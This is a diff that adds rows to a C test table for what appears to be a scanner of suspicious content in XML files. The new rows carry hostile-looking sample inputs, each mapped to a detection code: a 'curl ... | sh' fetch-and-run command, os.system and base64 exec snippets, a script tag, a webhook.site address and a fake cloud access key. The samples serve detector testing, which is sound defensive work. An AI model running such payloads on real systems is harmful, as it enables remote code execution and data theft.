@@ -75,6 +75,13 @@ static const struct row {
 	  GH_OK, "reference data \"x.bin\" from \"constants\" data 4+8", NULL },
 	{ "an OpenVINO library", S("<net><layer type='X' library='/tmp/e.so'/></net>"), GH_OK,
 	  "reference path \"/tmp/e.so\" from \"extension library\"", NULL },
+	{ "code in a value", S("<a b=\"import os; os.system('id')\"/>"), GH_OK, "GH-XML-0201", NULL },
+	{ "commands in a text", S("<a>curl http://x.example/a | sh</a>"), GH_OK, "GH-XML-0202", NULL },
+	{ "a script in a section", S("<a><![CDATA[<script>alert(1)</script>]]></a>"), GH_OK, "GH-XML-0203", NULL },
+	{ "decoding in a comment", S("<a><!-- exec(__import__('base64').b64decode('aW1wb3J0IG9z')) --></a>"), GH_OK,
+	  "GH-XML-0204", NULL },
+	{ "an address", S("<a webhook='https://webhook.site/abc-def'/>"), GH_OK, "GH-XML-0205", NULL },
+	{ "a credential", S("<a>AKIAIOSFODNN7ABCDEFG</a>"), GH_OK, "GH-XML-0206", NULL },
 };
 
 static const struct row html[] = {
